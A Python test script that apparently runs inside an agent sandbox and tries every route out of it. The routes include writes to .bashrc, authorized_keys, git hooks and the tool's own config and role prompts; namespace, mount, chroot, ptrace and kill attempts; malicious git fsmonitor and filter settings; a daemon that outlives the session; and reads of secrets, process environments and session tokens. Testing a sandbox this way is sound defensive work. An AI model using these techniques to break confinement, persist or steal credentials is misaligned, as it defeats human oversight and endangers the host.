"""Runs within the sandbox: tries everything to reach out of it, and prints what it could see.

`attack.py FACTS`, a JSON file in the worktree that says where things are outside. Every attempt is one function; one
that fails as it should raises OSError or CalledProcessError. What succeeds is for the test to see from outside.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

FACTS = json.loads(Path(sys.argv[1]).read_text())
ROOT, HOME, OUTSIDE, OTHER = (Path(FACTS[key]) for key in ("root", "home", "outside", "other"))
GIT = ROOT / ".git"
HERE = Path.cwd()
OWN = GIT / "worktrees" / HERE.name
STATE = ROOT / ".rookery"
CANARY = str(OUTSIDE / "canary")
TRIES: dict[str, Callable[[], object]] = {}


def attempt(function: Callable[[], object]) -> Callable[[], object]:
    TRIES[function.__name__] = function
    return function


def sh(script: str) -> str:
    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, timeout=20, check=True)
    return done.stdout


# -- writing outside, by every road --------------------------------------------------------------------------------


def add_writes() -> None:
    places = {
        "absolute": OUTSIDE / "file",
        "main_checkout": ROOT / "README.md",
        "main_checkout_new": ROOT / "new",
        "etc": Path("/etc/rook-escape"),
        "usr": Path("/usr/bin/rook-escape"),
        "user_home": HOME / ".bashrc",
        "user_home_new": HOME / ".config" / "autostart" / "x.desktop",
        "authorized_keys": HOME / ".ssh" / "authorized_keys",
        "database": STATE / "rookery.db",
        "configuration": STATE / "config.yaml",
        "local_configuration": STATE / "config.local.yaml",
        "role_prompt": STATE / "roles" / "builder.md",
        "cage": STATE / "run" / "cages" / f"{HERE.name}.json",
        "other_worktree": OTHER / "README.md",
        "instructions": HERE / "AGENTS.md",
        "git_file": HERE / ".git",
        "git_config": GIT / "config",
        "git_main_head": GIT / "HEAD",
        "git_main_index": GIT / "index",
        "git_hook": GIT / "hooks" / "post-commit",
        "git_attributes": GIT / "info" / "attributes",
        "git_exclude": GIT / "info" / "exclude",
        "git_alternates": GIT / "objects" / "info" / "alternates",
        "git_pack": GIT / "objects" / "pack" / "pack-evil.pack",
        "git_packed_refs": GIT / "packed-refs",
        "git_main_branch": GIT / "refs" / "heads" / "main",
        "git_tag": GIT / "refs" / "tags" / "evil",
        "git_other_branch": GIT / "refs" / "heads" / "rook" / OTHER.name / "evil",
        "git_saved": GIT / "refs" / "rookery" / "evil",
        "git_own_config": OWN / "config.worktree",
        "git_own_common": OWN / "commondir",
        "git_own_place": OWN / "gitdir",
        "git_other_worktree": GIT / "worktrees" / OTHER.name / "HEAD",
        "git_stash": GIT / "refs" / "stash",
    }
    for name, path in places.items():
        ways: dict[str, Callable[[Path], object]] = {
            "write": _write,
            "append": _append,
            "remove": Path.unlink,
            "replace": _replace,
            "replace by link": _link,
            "chmod": lambda path: path.chmod(0o777),
            "through a link": _through_link,
            "by dots": lambda path: _write(Path(os.path.relpath(path))),
            "hard link": _hard_link,
            "by its root": lambda path: _write(Path(f"/proc/1/root{path}")),
        }
        for way, function in ways.items():
            TRIES[f"{way} {name}"] = partial(function, path)


def _write(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("escaped\n")


def _append(path: Path) -> None:
    with open(path, "a" if path.is_file() else "r+") as file:
        file.write("escaped\n")


def _replace(path: Path) -> None:
    mine = HERE / "mine"
    mine.write_text("escaped\n")
    os.replace(mine, path)


def _link(path: Path) -> None:
    link = HERE / "link"
    link.unlink(missing_ok=True)
    link.symlink_to(CANARY)
    os.replace(link, path)


def _through_link(path: Path) -> None:
    link = HERE / "through"
    link.unlink(missing_ok=True)
    link.symlink_to(path)
    _append(link)


def _hard_link(path: Path) -> None:
    mine = HERE / "hard"
    mine.unlink(missing_ok=True)
    os.link(path, mine)
    mine.write_text("escaped\n")


add_writes()


_DEVICES = ("/proc/sysrq-trigger", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/sys/kernel/uevent_helper")


def add_devices() -> None:
    """Opened and no more: where the sandbox failed, the machine is to live on."""
    for name in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/sda",
        "/dev/vda",
    ):
        TRIES[f"open {name}"] = partial(_open, name)


def _open(name: str) -> None:
    os.close(os.open(name, os.O_WRONLY))


add_devices()


@attempt
def rename_own_worktree() -> None:
    os.rename(HERE, HERE.parent / "moved")


@attempt
def rename_folder_of_git() -> None:
    os.rename(OWN, OWN.parent / "moved")


@attempt
def own_logs_become_a_link() -> None:
    os.rename(OWN / "logs", OWN / "logs-before")
    (OWN / "logs").symlink_to(OUTSIDE)


@attempt
def own_head_log_becomes_a_link() -> None:
    (OWN / "logs" / "HEAD").unlink()
    (OWN / "logs" / "HEAD").symlink_to(CANARY)


@attempt
def by_file_descriptors() -> None:
    for pid in (p for p in os.listdir("/proc") if p.isdecimal()):
        for number in os.listdir(f"/proc/{pid}/fd"):
            target = os.readlink(f"/proc/{pid}/fd/{number}")
            if target.startswith("/") and not target.startswith(("/dev/", str(HERE), "/proc/")):
                _append(Path(f"/proc/{pid}/fd/{number}"))


@attempt
def by_open_folders() -> None:
    for number in range(3, 64):
        try:
            handle = os.open(CANARY.lstrip("/"), os.O_CREAT | os.O_WRONLY, dir_fd=number)
        except OSError:
            continue
        os.write(handle, b"escaped")
        return
    raise OSError("no folder is open")


# -- the kernel ----------------------------------------------------------------------------------------------------


@attempt
def mount_something() -> None:
    sh(f"mount -t tmpfs none {OUTSIDE}")


@attempt
def remount_writable() -> None:
    sh("mount -o remount,rw / && echo x > /etc/rook-escape")


@attempt
def unmount_state() -> None:
    sh(f"umount -l {STATE} && cat {STATE}/sessions/*/token")


@attempt
def new_namespaces() -> None:
    sh(f"unshare -Urm sh -c 'mount -o remount,rw,bind / / && echo x > {CANARY}'")


@attempt
def nested_bubblewrap() -> None:
    sh(f"bwrap --bind / / sh -c 'echo x > {CANARY}'")


@attempt
def change_root() -> None:
    os.chroot("/proc/1/root")
    _write(Path(CANARY))


@attempt
def make_a_device() -> None:
    os.mknod(HERE / "disk", 0o660 | 0o060000, os.makedev(8, 0))
    os.close(os.open(HERE / "disk", os.O_RDWR))


@attempt
def enter_namespaces() -> None:
    sh(f"nsenter -t 1 -m -- sh -c 'echo x > {CANARY}'")


@attempt
def trace_outside() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in FACTS["pids"]:
        if libc.ptrace(16, pid, 0, 0) == 0:
            raise SystemExit("traced")
    raise OSError(ctypes.get_errno(), "ptrace")


@attempt
def signal_outside() -> None:
    for pid in FACTS["pids"]:
        os.kill(pid, signal.SIGKILL)


@attempt
def load_a_module() -> None:
    sh("modprobe loop")


@attempt
def change_the_host_name() -> None:
    sh("hostname escaped")


@attempt
def become_somebody_else() -> None:
    os.setuid(12345)
    os.setgroups([0])


@attempt
def handle_by_number() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.open_by_handle_at(-100, b"\0" * 64, 0) < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")


# -- sockets ---------------------------------------------------------------------------------------------------------


def add_sockets() -> None:
    for path in FACTS["sockets"]:
        TRIES[f"socket {path}"] = partial(_connect, path)


def _connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(2)
        line.connect(path)
        line.sendall(b"escaped\n")


add_sockets()


@attempt
def the_private_tmux() -> None:
    for path in FACTS["tmux"]:
        sh(f"tmux -S {path} run-shell 'touch {CANARY}'")


@attempt
def a_pipe_for_the_outside() -> None:
    for path in (OUTSIDE / "pipe", STATE / "run" / "pipe"):
        os.mkfifo(path)


# -- what our own git would run or follow ----------------------------------------------------------------------------


@attempt
def settings_of_git() -> None:
    for key in ("core.hooksPath", "core.fsmonitor", "core.sshCommand", "filter.evil.clean", "diff.evil.textconv"):
        for scope in ("--local", "--worktree", "--global", "--system"):
            subprocess.run(["git", "config", scope, key, f"touch {CANARY}"], capture_output=True, check=False)
    (HERE / ".gitattributes").write_text("* filter=evil diff=evil\n")


@attempt
def a_repository_inside() -> None:
    """Tracked as a submodule: `git status` outside would look into it, by its own settings."""
    sh(f"""
    git init -q evil && cd evil && echo x > x && git add x && git -c user.name=x -c user.email=x commit -qm x
    git config core.fsmonitor 'touch {CANARY}'
    git config core.hooksPath "$PWD/hooks"; mkdir hooks
    for name in post-index-change pre-commit post-checkout reference-transaction; do
        printf '#!/bin/sh\\ntouch {CANARY}\\n' > hooks/$name; chmod +x hooks/$name
    done
    git config filter.evil.clean 'touch {CANARY}; cat'; echo '* filter=evil' > .gitattributes
    echo changed > x
    cd .. && git add evil && git commit -qm 'Add evil'
    echo changed-again > evil/x
    """)


@attempt
def a_repository_of_the_other_kind() -> None:
    (HERE / ".jj" / "repo").mkdir(parents=True)
    (HERE / ".jj" / "repo" / "config.toml").write_text(f'[ui]\npager = "touch {CANARY}"\n')


@attempt
def files_that_git_writes() -> None:
    for name in ("COMMIT_EDITMSG", "ORIG_HEAD", "FETCH_HEAD", "MERGE_MSG"):
        (OWN / name).unlink(missing_ok=True)
        (OWN / name).symlink_to(CANARY)


@attempt
def a_branch_that_leads_to_main() -> None:
    branch = sh("git symbolic-ref HEAD").strip()
    (GIT / branch).parent.joinpath("leads").write_text("ref: refs/heads/main\n")


@attempt
def an_index_that_is_a_pipe() -> None:
    os.mkfifo(OWN / "index.pipe")


@attempt
def links_among_the_objects() -> None:
    for number in range(256):
        folder = GIT / "objects" / f"{number:02x}"
        if not folder.exists():
            folder.symlink_to(OUTSIDE)


# -- processes that outlast the attack -------------------------------------------------------------------------------


@attempt
def a_daemon() -> None:
    loop = f"while :; do echo x > {CANARY}; sleep 0.05; done"
    nothing = subprocess.DEVNULL
    argv = ["setsid", "env", "-i", "/bin/sh", "-c", loop]
    subprocess.Popen(argv, start_new_session=True, stdin=nothing, stdout=nothing, stderr=nothing)


# -- reading ---------------------------------------------------------------------------------------------------------


def read_secrets() -> None:
    for pattern in FACTS["secrets"]:
        print(pattern, sh(f"cat {pattern} 2>/dev/null || true"))
    print(sh("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/*/cmdline | tr '\\0' ' '"))


def main() -> None:
    escaped = []
    for name, function in TRIES.items():
        try:
            function()
        except (OSError, subprocess.SubprocessError, SystemExit, ValueError):
            continue
        escaped.append(name)
    print("went through:", json.dumps(escaped))
    print("attempts:", len(TRIES))
    read_secrets()


main()
